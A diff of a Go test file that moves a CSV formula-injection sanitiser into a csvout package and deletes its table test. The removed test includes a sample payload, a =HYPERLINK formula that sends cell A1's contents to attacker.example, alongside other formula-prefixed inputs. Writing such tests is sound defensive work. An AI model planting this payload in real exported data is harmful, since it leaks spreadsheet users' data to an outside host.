@@ -5,31 +5,9 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/keepnet-flow/keepnet-flow/internal/csvout"
 	"github.com/keepnet-flow/keepnet-flow/pkg/workflows"
 )
-
-func TestNeutralise(t *testing.T) {
-	tests := []struct{ in, want string }{
-		{"=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")", "'=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")"},
-		{"+1-555-0100", "'+1-555-0100"},
-		{"-2+3", "'-2+3"},
-		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
-		{"\t=1+1", "'\t=1+1"},
-		{"\r=1+1", "'\r=1+1"},
-		{"", ""},
-		{"Finance", "Finance"},
-		{"a=b", "a=b"},
-		{" =1+1", " =1+1"},
-		{"'quoted", "'quoted"},
-		{"Ångström", "Ångström"},
-		{"75", "75"},
-	}
-	for _, tt := range tests {
-		if got := neutralise(tt.in); got != tt.want {
-			t.Errorf("neutralise(%q) = %q, want %q", tt.in, got, tt.want)
-		}
-	}
-}
 
 // hostile is a respondent whose directory entries and answers a
 // spreadsheet would run.
@@ -80,7 +58,7 @@ func TestCSVFormulasAreNeutralised(t *testing.T) {
 				}
 			}
 			for cell := range cells {
-				if !raw && cell != "" && strings.ContainsRune(formulaStarts, rune(cell[0])) {
+				if !raw && cell != "" && strings.ContainsRune(csvout.FormulaStarts, rune(cell[0])) {
 					t.Errorf("%s: cell %q would run as a formula", format, cell)
 				}
 			}
